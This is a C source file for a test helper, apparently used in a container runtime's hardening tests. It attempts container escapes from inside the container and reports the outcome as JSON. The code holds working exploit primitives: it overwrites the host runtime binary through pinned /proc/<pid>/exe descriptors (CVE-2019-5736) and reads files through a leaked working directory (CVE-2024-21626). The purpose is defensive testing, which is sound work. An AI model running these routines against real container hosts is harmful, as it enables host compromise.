/* attack_helper: a static program copied into the rootfs of the hardening
 * tests; it attempts container-escape attacks from inside the container and
 * reports what happened as one JSON object on stdout (or in a file).
 *
 *   attack_helper open-write PATH...
 *       For each PATH: open(O_WRONLY), open(O_RDWR), and open(O_PATH) then
 *       reopen through /proc/self/fd/N for writing (CVE-2019-5736). Each
 *       successful open writes "PWNED" at offset 0.
 *       {"results":[{"path":..,"wronly":errno,"rdwr":errno,"opath":errno,
 *                    "reopen":errno,"target":..}]}   (0 = written)
 *   attack_helper race-exe OUT STOPFILE
 *       Until STOPFILE exists: scans /proc for other processes and tries to
 *       pin their /proc/<pid>/exe (O_PATH) when it is not one of this
 *       container's binaries (a runtime entering the container), then keeps
 *       trying to reopen the pinned ones for writing (and writes "PWNED"),
 *       also for a second after STOPFILE appeared (no runtime runs then).
 *       Writes {"scans":N,"pids_seen":N,"exe_denied":N,"foreign_pinned":N,
 *       "write_opened":N (writes that went through),"foreign":[targets]}
 *       to OUT.
 *   attack_helper escape-cwd RELPATH
 *       {"cwd":..,"cwd_errno":..,"errno":..,"content":..}: getcwd() and the
 *       content of RELPATH opened relative to the cwd (CVE-2024-21626).
 *   attack_helper statfs PATH
 *       {"errno":..,"type":<f_type>,"is_procfs":bool}
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <time.h>
#include <unistd.h>

#define PROC_SUPER_MAGIC_VALUE 0x9fa0

static void put_str(FILE* f, const char* s) {
  fputc('"', f);
  for (const unsigned char* p = (const unsigned char*)s; *p; ++p) {
    if (*p == '"' || *p == '\\') {
      fputc('\\', f);
      fputc(*p, f);
    } else if (*p < 0x20 || *p >= 0x7f) {
      fprintf(f, "\\u%04x", *p);
    } else {
      fputc(*p, f);
    }
  }
  fputc('"', f);
}

/* Writes the marker through fd; returns 0 or errno. */
static int scribble(int fd) {
  return pwrite(fd, "PWNED", 5, 0) == 5 ? 0 : errno;
}

/* 0 when path opened for writing and the write went through; else the
 * errno of the open or of the write (a sealed memfd opens, but refuses the
 * write with EPERM). */
static int try_open_write(const char* path, int flags) {
  int fd = open(path, flags | O_CLOEXEC);
  if (fd < 0) return errno;
  int err = scribble(fd);
  close(fd);
  return err;
}

static int reopen_write(int opath_fd) {
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%d", opath_fd);
  return try_open_write(p, O_WRONLY);
}

static int cmd_open_write(int argc, char** argv) {
  printf("{\"results\":[");
  for (int i = 0; i < argc; ++i) {
    char target[PATH_MAX] = "";
    ssize_t n = readlink(argv[i], target, sizeof target - 1);
    target[n < 0 ? 0 : n] = '\0';
    int wronly = try_open_write(argv[i], O_WRONLY);
    int rdwr = try_open_write(argv[i], O_RDWR);
    int reopen = -1;
    int opath = 0;
    int fd = open(argv[i], O_PATH | O_CLOEXEC);
    if (fd < 0) {
      opath = errno;
    } else {
      reopen = reopen_write(fd);
      close(fd);
    }
    printf("%s{\"path\":", i ? "," : "");
    put_str(stdout, argv[i]);
    printf(",\"wronly\":%d,\"rdwr\":%d,\"opath\":%d,\"reopen\":%d,\"target\":", wronly, rdwr, opath, reopen);
    put_str(stdout, target);
    printf("}");
  }
  printf("]}\n");
  return 0;
}

/* Binaries of this container: pinning their exe proves nothing. */
static int own_binary(const char* target) {
  static const char* const kOwn[] = {"/attack_helper", "/test_init", "/bin/busybox", "/bin/sh", "/bin/sleep"};
  for (size_t i = 0; i < sizeof kOwn / sizeof kOwn[0]; ++i) {
    if (strcmp(target, kOwn[i]) == 0) return 1;
  }
  return 0;
}

#define MAX_PINNED 256

static int cmd_race_exe(const char* out_path, const char* stop_file) {
  int pinned[MAX_PINNED];
  char foreign[MAX_PINNED][256];
  int npinned = 0;
  long scans = 0, pids_seen = 0, denied = 0, write_opened = 0;
  int self = getpid();
  int last_pid_seen[64] = {0};
  while (access(stop_file, F_OK) != 0) {
    ++scans;
    DIR* d = opendir("/proc");
    if (!d) break;
    for (struct dirent* de; (de = readdir(d));) {
      int pid = atoi(de->d_name);
      if (pid <= 0 || pid == self) continue;
      int known = 0;
      for (int k = 0; k < 64; ++k) known |= last_pid_seen[k] == pid;
      if (!known) {
        last_pid_seen[pids_seen % 64] = pid;
        ++pids_seen;
      }
      char p[64];
      snprintf(p, sizeof p, "/proc/%d/exe", pid);
      int fd = open(p, O_PATH | O_CLOEXEC);
      if (fd < 0) {
        if (errno == EACCES || errno == EPERM) ++denied;
        continue;
      }
      char target[PATH_MAX] = "";
      snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
      ssize_t n = readlink(p, target, sizeof target - 1);
      target[n < 0 ? 0 : n] = '\0';
      if (own_binary(target) || npinned >= MAX_PINNED) {
        close(fd);
        continue;
      }
      snprintf(foreign[npinned], sizeof foreign[npinned], "%s", target);
      pinned[npinned++] = fd;
    }
    closedir(d);
    /* The runtime holds its binary busy (ETXTBSY) while it runs: keep
     * trying after it has exited, as the CVE's exploit does. */
    for (int i = 0; i < npinned; ++i) {
      if (reopen_write(pinned[i]) == 0) ++write_opened;
    }
  }
  /* The caller runs no runtime command from now on: the binary is no
   * longer busy, the moment the exploit waits for. */
  for (int round = 0; round < 100; ++round) {
    for (int i = 0; i < npinned; ++i) {
      if (reopen_write(pinned[i]) == 0) ++write_opened;
    }
    struct timespec ts = {0, 10 * 1000 * 1000};
    nanosleep(&ts, NULL);
  }
  /* Written aside and renamed: the caller polls for OUT. */
  char tmp[PATH_MAX];
  snprintf(tmp, sizeof tmp, "%s.tmp", out_path);
  FILE* f = fopen(tmp, "we");
  if (!f) return 1;
  fprintf(f, "{\"scans\":%ld,\"pids_seen\":%ld,\"exe_denied\":%ld,\"foreign_pinned\":%d,\"write_opened\":%ld,"
             "\"foreign\":[",
          scans, pids_seen, denied, npinned, write_opened);
  for (int i = 0; i < npinned; ++i) {
    if (i) fputc(',', f);
    put_str(f, foreign[i]);
  }
  fprintf(f, "]}\n");
  fclose(f);
  if (rename(tmp, out_path) != 0) return 1;
  return 0;
}

static int cmd_escape_cwd(const char* rel) {
  char cwd[PATH_MAX];
  int cwd_errno = getcwd(cwd, sizeof cwd) ? 0 : errno;
  if (cwd_errno) cwd[0] = '\0';
  char buf[4096] = "";
  int err = 0;
  int fd = open(rel, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    err = errno;
  } else {
    ssize_t n = read(fd, buf, sizeof buf - 1);
    buf[n < 0 ? 0 : n] = '\0';
    close(fd);
  }
  printf("{\"cwd\":");
  put_str(stdout, cwd);
  printf(",\"cwd_errno\":%d,\"errno\":%d,\"content\":", cwd_errno, err);
  put_str(stdout, buf);
  printf("}\n");
  return 0;
}

static int cmd_statfs(const char* path) {
  struct statfs s;
  if (statfs(path, &s) != 0) {
    printf("{\"errno\":%d}\n", errno);
    return 0;
  }
  printf("{\"errno\":0,\"type\":%ld,\"is_procfs\":%s}\n", (long)s.f_type,
         s.f_type == PROC_SUPER_MAGIC_VALUE ? "true" : "false");
  return 0;
}

int main(int argc, char** argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: attack_helper open-write P...|race-exe OUT STOP|escape-cwd REL|statfs P\n");
    return 2;
  }
  int rc = 2;
  if (strcmp(argv[1], "open-write") == 0) {
    rc = cmd_open_write(argc - 2, argv + 2);
  } else if (strcmp(argv[1], "race-exe") == 0 && argc > 3) {
    rc = cmd_race_exe(argv[2], argv[3]);
  } else if (strcmp(argv[1], "escape-cwd") == 0 && argc > 2) {
    rc = cmd_escape_cwd(argv[2]);
  } else if (strcmp(argv[1], "statfs") == 0 && argc > 2) {
    rc = cmd_statfs(argv[2]);
  } else {
    fprintf(stderr, "attack_helper: unknown command %s\n", argv[1]);
  }
  fflush(stdout);
  return rc;
}
